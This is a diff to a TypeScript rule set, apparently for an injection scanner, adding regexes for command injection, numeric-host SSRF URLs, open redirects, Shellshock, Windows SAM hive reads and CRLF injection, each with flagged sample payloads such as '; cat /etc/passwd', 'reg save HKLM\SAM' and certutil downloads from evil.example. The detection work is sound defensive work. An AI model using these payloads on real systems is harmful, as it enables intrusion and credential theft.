@@ -99,11 +99,11 @@ export const CODE_INJECTION_RULES: readonly RuleDefinition[] = [
     description: 'Command injection: a separator (; | && $( `) followed by a reconnaissance or download command, as in an injected parameter.',
     anchors: [';', '|', '&', '$(', '`', '%0a', '\\n'],
     pattern:
-      /(?<![\w/.(-])(?:;|\|\|?|&&?|%0a|\\n|\$\(|`)\s*(?:(?:\$\(|`)\s*)?(?:cat\s+\/etc\/(?:passwd|shadow|hosts|issue)|id(?![\w-])(?!\s*\||\s+-\w|`\s*\w)|whoami|uname(?:\s+-a)?|ifconfig|ipconfig|systeminfo|net\s+(?:user|view|localgroup)|ls\s+-\w*\s+\/|dir\s+[a-z]:|type\s+%|ping\s+-[nc]\s+\d+|sleep\s+\d+|nslookup\s+\S+|phpinfo\(\)|perl\s+-e|python\d?\s+-c|curl\s+(?:-\w+\s+)*https?:\/\/|wget\s+(?:-\w+\s+)*https?:\/\/|nc\s+-\w*e)(?![\w-])/,
+      /(?<![\w/.(-])(?:;|\|\|?|&&?|%0a|\\n|\$\(|`)\s*(?:(?:\$\(|`)\s*)?(?:cat\s+\/etc\/(?:passwd|shadow|hosts|issue)|id(?![\w-])(?!\s*\||\s+-\w|`\s*\w)|(?:\/usr)?\/bin\/(?:id|whoami)(?![\w-])(?!\s+-\w)|whoami|uname(?:\s+-a)?|ifconfig|ipconfig|systeminfo|net\s+(?:user|view|localgroup)|ls\s+-\w*\s+\/|dir\s+[a-z]:|type\s+%|ping\s+-[nc]\s+\d+|sleep\s+\d+|nslookup\s+\S+|phpinfo\(\)|perl\s+-e|python\d?\s+-c|curl\s+(?:-\w+\s+)*https?:\/\/|wget\s+(?:-\w+\s+)*https?:\/\/|nc\s+-\w*e)(?![\w-])/,
     reference: 'PayloadsAllTheThings Command Injection; OWASP WSTG-INPV-12; CWE-78',
     examples: {
-      flagged: ['; cat /etc/passwd', "`id`", '| sleep 15', "127.0.0.1 && whoami"],
-      clean: ['ls -la | grep txt', 'git log --oneline | head -5'],
+      flagged: ['; cat /etc/passwd', "`id`", '| sleep 15', "127.0.0.1 && whoami", ';/usr/bin/id;', "'||/usr/bin/id|'"],
+      clean: ['ls -la | grep txt', 'git log --oneline | head -5', 'uid=$(/usr/bin/id -u)'],
     },
   },
   {
@@ -297,6 +297,85 @@ export const CODE_INJECTION_RULES: readonly RuleDefinition[] = [
     examples: {
       flagged: ['certutil.exe -urlcache -split -f http://evil.example/p.exe p.exe', 'regsvr32 /s /n /u /i:http://evil.example/file.sct scrobj.dll', 'IEX (New-Object Net.WebClient).DownloadString("http://x/y.ps1")'],
       clean: ['How do I run a PowerShell script from Task Scheduler safely?'],
+    },
+  },
+  {
+    id: 'code-url-numeric-host',
+    family,
+    category: 'code-intent',
+    severity: 'high',
+    description:
+      'A URL whose host is an IP address written in hex, octal or as one integer (http://0xd83ad6ce, http://00330.0x3a.54990, http://3627734734), often behind a decoy user name (http://trusted.example@0xd8…): a filter-evasion form for SSRF and open redirects that no ordinary link uses.',
+    anchors: ['http:', 'https:', '//'],
+    pattern:
+      /(?:https?:\/{0,4}|\/\/)(?:[^\s/@]{1,80}@)?(?:0x[0-9a-f]{2,8}|0[0-7]{2,11}|[1-9][0-9]{8,9})(?:\.(?:0x[0-9a-f]{1,8}|0[0-7]{1,11}|[0-9]{1,10})){0,3}(?![\w.-])/,
+    reference: 'PayloadsAllTheThings Open Redirect and Server Side Request Forgery (IP address encodings); OWASP SSRF Prevention Cheat Sheet; CWE-601, CWE-918',
+    examples: {
+      flagged: ['http://0xd83ad6ce', 'http://www.whitelisteddomain.tld@00330.0x3a.54990', 'http://3627734734/admin', 'http:www.trusted.example@0xd8.0x3a.0xd6.0xce'],
+      clean: ['http://192.168.0.1:8080/status', 'https://example.com/v1/items/0x1f', 'http://10.0.0.5:3000/health', 'see https://arxiv.org/abs/2307.15043'],
+    },
+  },
+  {
+    id: 'code-open-redirect',
+    family,
+    category: 'code-intent',
+    severity: 'high',
+    description:
+      'Open-redirect payloads: a protocol-relative URL disguised with tabs, backslashes or encoded slashes (////%09/evil.example, /%5cevil.example, /\\/evil.example), or a redirect parameter pointing at one (?next=//evil.example).',
+    anchors: ['/'],
+    pattern:
+      /(?<![\w:\\%.-])\/{1,4}(?:%09|%5c|\\|\t)+\/*(?:[\w-]{1,63}\.){1,6}[a-z]{2,24}(?![\w-])|[?&](?:url|next|redirect|redir|rurl|redirect_uri|return|returnto|return_to|dest|destination|continue|goto|target)=(?:\/\\\/|\\\/\\\/|\/%09|%2f%2f|\/\/(?:[\w-]{1,63}\.){1,6}[a-z]{2,24})/,
+    lookback: 12,
+    reference: 'PayloadsAllTheThings Open Redirect (filter bypass); OWASP Unvalidated Redirects and Forwards Cheat Sheet; CWE-601',
+    examples: {
+      flagged: ['////%09/google.com', '/%5cgoogle.com', '/\\/example.com/', '/redirect?url=//example.com&next=//example.com'],
+      clean: ['{"url": "https:\\/\\/example.com\\/path"}', 'git clone https://github.com/user/repo.git', 'return redirect("/login?next=/dashboard")', 'C:\\Users\\me\\Documents'],
+    },
+  },
+  {
+    id: 'code-shellshock',
+    family,
+    category: 'code-intent',
+    severity: 'high',
+    description: 'Shellshock (CVE-2014-6271): a bash function definition in an environment value, "() { :;};", followed by the command to run.',
+    anchors: ['()'],
+    pattern: /(?<![\w$])\(\)\s*\{\s*:\s*(?:;\s*)?\}\s*;/,
+    reference: 'CVE-2014-6271 / CVE-2014-7169 (GNU Bash "Shellshock"); PayloadsAllTheThings Command Injection',
+    examples: {
+      flagged: ['() { :;}; echo vulnerable', 'User-Agent: () { :; }; /bin/bash -c "id"'],
+      clean: ['noop() { :; }', 'const f = () => { return 1; };'],
+    },
+  },
+  {
+    id: 'code-windows-hive-read',
+    family,
+    category: 'code-intent',
+    severity: 'high',
+    description: 'Reads or saves the Windows SAM, SYSTEM or SECURITY registry hive (type …\\repair\\SAM, reg save HKLM\\SAM): the password hashes of the machine, for offline cracking.',
+    anchors: ['\\repair\\', '\\config\\', '\\regback\\', 'reg save', 'reg.exe save'],
+    pattern:
+      /(?:type|copy|more|cat|get-content|gc|xcopy|robocopy|esentutl(?:\.exe)?\s+\/y)\s[^\n]{0,40}?\\(?:repair|config|regback)\\(?:sam|system|security)(?![\w.])|\breg(?:\.exe)?\s+save\s+hklm\\(?:sam|system|security)\b/,
+    lookback: 64,
+    reference: 'MITRE ATT&CK T1003.002 (OS Credential Dumping: Security Account Manager); PayloadsAllTheThings Command Injection (Windows)',
+    examples: {
+      flagged: ['type C:\\Windows\\repair\\SAM', '&& type %SYSTEMROOT%\\repair\\SYSTEM', 'reg save HKLM\\SAM C:\\temp\\sam.save'],
+      clean: ['notepad C:\\project\\config\\settings.json', 'reg query HKLM\\SOFTWARE\\Microsoft'],
+    },
+  },
+  {
+    id: 'code-crlf-injection',
+    family,
+    category: 'code-intent',
+    severity: 'high',
+    description:
+      'CRLF / HTTP response splitting: an encoded line break followed by a response header (/%0d%0aSet-Cookie:…, %E5%98%8A%E5%98%8DLocation:…), so a URL or parameter writes headers of its own.',
+    anchors: ['%0d', '%0a', '%e5%98%8a', '%e5%98%8d', '%u000d', '%u000a', '\\r\\n'],
+    pattern:
+      /(?:%0d|%0a|%e5%98%8a|%e5%98%8d|%u000d|%u000a|\\r|\\n){1,4}(?:%20|%09|\s){0,3}(?:set-cookie|location|content-(?:type|length)|x-xss-protection|refresh|access-control-allow-origin)\s*:/,
+    reference: 'PayloadsAllTheThings CRLF Injection; OWASP HTTP Response Splitting; CWE-113',
+    examples: {
+      flagged: ['/%0d%0aSet-Cookie:crlf=injection', '/%E5%98%8A%E5%98%8DLocation:%20https://evil.example'],
+      clean: ['printf("HTTP/1.1 200 OK\\r\\n")', 'Use %0A to encode a newline in a URL.'],
     },
   },
 ];
